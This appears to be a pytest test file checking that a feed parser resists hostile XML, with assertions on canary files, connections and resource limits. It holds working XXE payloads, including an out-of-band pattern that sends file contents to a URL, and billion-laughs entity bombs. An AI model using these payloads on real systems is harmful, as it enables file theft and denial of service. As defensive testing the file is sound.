"""XML that reaches out, multiplies or wears a parser down opens nothing, costs little, and costs nobody else."""

from __future__ import annotations

import asyncio
import re
import sys
from typing import TYPE_CHECKING, Any

import pytest

from curate.feeds.parse import parse_feed
from curate.feeds.workers import Unreadable, Workers
from tests.feeds import hostile
from tests.feeds.test_parse import bombs
from tests.safety.spied import Spied, call_out, spy
from tests.web.raw import answering, serving

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

pytestmark = pytest.mark.skipif(sys.platform == "win32", reason="Windows has no limits of processor and memory")
URL = "https://site.example/feed"
MIB = 1024 * 1024

# How XML may ask for what lies elsewhere: what stands before the root, and the text of the first title.
REACHING = {
    "file": ('<!DOCTYPE rss [<!ENTITY x SYSTEM "file://{file}">]>', "&x;"),
    "bare path": ('<!DOCTYPE rss [<!ENTITY x SYSTEM "{file}">]>', "&x;"),
    "http": ('<!DOCTYPE rss [<!ENTITY x SYSTEM "{http}">]>', "&x;"),
    "ftp": ('<!DOCTYPE rss [<!ENTITY x SYSTEM "ftp://{host}/x">]>', "&x;"),
    "jar": ('<!DOCTYPE rss [<!ENTITY x SYSTEM "jar:{http}!/x">]>', "&x;"),
    "public": ('<!DOCTYPE rss [<!ENTITY x PUBLIC "-//x" "{http}">]>', "&x;"),
    "parameter file": ('<!DOCTYPE rss [<!ENTITY % x SYSTEM "file://{file}"> %x;]>', "x"),
    "parameter http": ('<!DOCTYPE rss [<!ENTITY % x SYSTEM "{http}"> %x;]>', "x"),
    "sent out": (
        '<!DOCTYPE rss [<!ENTITY % f SYSTEM "{file}"><!ENTITY % e "<!ENTITY s SYSTEM \'{http}?%f;\'>"> %e;]>',
        "&s;",
    ),
    "nested": ('<!DOCTYPE rss [<!ENTITY y SYSTEM "file://{file}"><!ENTITY x "&y;">]>', "&x;"),
    "document type": ('<!DOCTYPE rss SYSTEM "{http}">', "&x;"),
    "public document type": ('<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "file://{file}">', "&x;"),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="{http}"?>', "x"),
    "notation": ('<!DOCTYPE rss [<!NOTATION n SYSTEM "{http}"><!ENTITY x SYSTEM "{file}" NDATA n>]>', "&x;"),
    "included file": ("", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file://{file}" parse="text"/>'),
    "included http": ("", '<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="{http}"/>'),
    "base": ("", "x</title><link xml:base='file://{file}'>.</link><title xml:base='{http}'>x"),
}
FEED = (
    '<?xml version="1.0"{encoding}?>{before}<rss version="2.0"><channel><title>c</title>'
    "<item><title>a{title}b</title><description>d</description></item></channel></rss>"
)


def run(calls: list[tuple[Callable[..., Any], tuple[Any, ...]]], *, processor: int = 10) -> list[Any]:
    """Make all calls in the same two workers; return what each returned, or the reason it did not."""

    async def every() -> list[Any]:
        async with Workers(processor=processor, seconds=60) as workers:
            answers = await asyncio.gather(
                *(workers.run(function, *args) for function, args in calls), return_exceptions=True
            )
        return [answer.message if isinstance(answer, Unreadable) else answer for answer in answers]

    return asyncio.run(every())


# Reaching out


@pytest.mark.parametrize("encoding", ["utf-8", "utf-16", "utf-32", "cp037"])
def test_no_form_of_xml_opens_a_file_or_a_connection(encoding: str, tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("canary-in-a-file", encoding="utf-8")
    with serving(answering(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\n\r\ncanary")) as canary:
        calls: list[tuple[Callable[..., Any], tuple[Any, ...]]] = []
        for before, title in REACHING.values():
            text = FEED.replace("{before}", before).replace("{title}", title)
            text = text.replace("{encoding}", f' encoding="{encoding}"' if encoding in {"utf-8", "cp037"} else "")
            text = text.replace("{file}", str(secret)).replace("{http}", canary.url)
            text = text.replace("{host}", f"127.0.0.1:{canary.port}")
            calls.append((spy, (text.encode(encoding), URL, "")))
        answers = run(calls)
        assert canary.connections == 0
    assert len(answers) == len(REACHING) >= 14
    for name, answer in zip(REACHING, answers, strict=True):
        assert isinstance(answer, Spied), (name, answer)
        assert answer.deeds == (), name
        assert "canary-in" not in answer.said, name
        if encoding != "cp037":  # which no feed is written in
            assert answer.said.startswith("Feed("), (name, answer.said)


def test_what_is_opened_in_a_worker_is_seen(tmp_path: Path) -> None:
    secret = tmp_path / "secret"
    secret.write_text("canary", encoding="utf-8")
    assert run([(call_out, (str(secret),))])[0].deeds == (f"open {str(secret)!r}",)


# Multiplying


def multiplying() -> dict[str, str]:
    ten = range(1, 11)
    laughs = "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in ten)
    percent = "".join(f"<!ENTITY % a{n} '{f'&#37;a{n - 1};' * 10}'>" for n in ten)
    hundred = f"<!ENTITY a '{'x' * 100_000}'>"
    item = "<item><title>t</title></item>"
    declared = "".join(f"<!ENTITY a{n} 'b'>" for n in range(60_000))
    defaults = "".join(f"<!ATTLIST item a{n} CDATA '{'x' * 1000}'>" for n in range(200))

    def feed(subset: str, inside: str) -> str:
        return f"<!DOCTYPE rss [{subset}]><rss version='2.0'><channel><item>{inside}</item></channel></rss>"

    return {
        "laughs in a title": feed(f"<!ENTITY a0 'ha'>{laughs}", "<title>&a10;</title>"),
        "laughs in a text": feed(f"<!ENTITY a0 'ha'>{laughs}", "<description>&a10;</description>"),
        "laughs in an attribute": feed(f"<!ENTITY a0 'ha'>{laughs}", "<source url='&a10;'>s</source>"),
        "laughs of parameters": feed(f"<!ENTITY % a0 'ha'>{percent} %a10;", "<title>t</title>"),
        "one large entity many times": feed(hundred, f"<title>{'&a;' * 20_000}</title>"),
        "one entity in many entries": feed("<!ENTITY a 'x'>", f"<title>{'&a;' * 20_000}</title></item>{item}<item>"),
        "an entity of itself": feed("<!ENTITY a 'x&a;'>", "<title>&a;</title>"),
        "two of each other": feed("<!ENTITY a '&b;'><!ENTITY b '&a;'>", "<title>&a;&b;</title>"),
        "60,000 declarations": feed(declared, "<title>&a59999;</title>"),
        "defaults of attributes": feed(defaults, f"</item>{item * 2_000}<item>"),
        "one long name": feed(f"<!ENTITY {'a' * MIB} 'b'>", f"<title>&{'a' * MIB};</title>"),
        "a million references": feed("", f"<title>{'&#65;' * 1_000_000}</title>"),
        "references to references": feed(
            "<!ENTITY lt2 '&#38;#60;'>", f"<description>{'&lt2;' * 100_000}</description>"
        ),
        "an endless document type": f"<!DOCTYPE rss [{'<!-- -->' * 200_000}<rss><channel>{item}</channel></rss>",
    }


@pytest.mark.parametrize("name", multiplying())
def test_what_multiplies_costs_little(name: str) -> None:
    (answer,) = run([(spy, (multiplying()[name].encode(), URL, "text/xml"))])
    assert isinstance(answer, Spied), answer
    assert answer.deeds == ()
    assert answer.processor < 5  # as measured on an idle machine, 2
    assert answer.growth <= 128 * MIB
    assert answer.said.startswith(("Feed(", "is ", "has "))


# Wearing down


@pytest.mark.parametrize("size", [1 << 10, 256 << 10, 4 << 20])
def test_what_wears_a_parser_down_costs_itself_only(size: int) -> None:
    shapes = dict(bombs(size))
    assert len(shapes) >= 20
    healthy = [(parse_feed, (rss(number), URL, "")) for number in range(50)]
    calls: list[tuple[Callable[..., Any], tuple[Any, ...]]] = [
        (parse_feed, (text.encode(), URL, "")) for text in shapes.values()
    ]
    answers = run([*calls, *healthy], processor=5)
    for name, answer in zip(shapes, answers, strict=False):
        if isinstance(answer, str):
            assert re.match(r"is |has |begins |takes more than 5 s|needs more than", answer), (name, answer)
            assert "fail" not in answer, (name, answer)
        else:
            assert len(answer.entries) <= 2_000, name
    titles = [answer.entries[0].title for answer in answers[len(shapes) :]]
    assert titles == [f"Night {number}" for number in range(50)]


def test_feeds_that_crash_their_reader_at_once_cost_themselves_only() -> None:
    calls: list[tuple[Callable[..., Any], tuple[Any, ...]]] = []
    for number in range(20):
        calls += [(hostile.die, ()), (parse_feed, (rss(number), URL, ""))]
    answers = run(calls)
    assert answers[::2] == ["made its reader crash"] * 20
    assert [answer.entries[0].title for answer in answers[1::2]] == [f"Night {number}" for number in range(20)]


def rss(number: int) -> bytes:
    return f"<rss version='2.0'><channel><item><title>Night {number}</title></item></channel></rss>".encode()
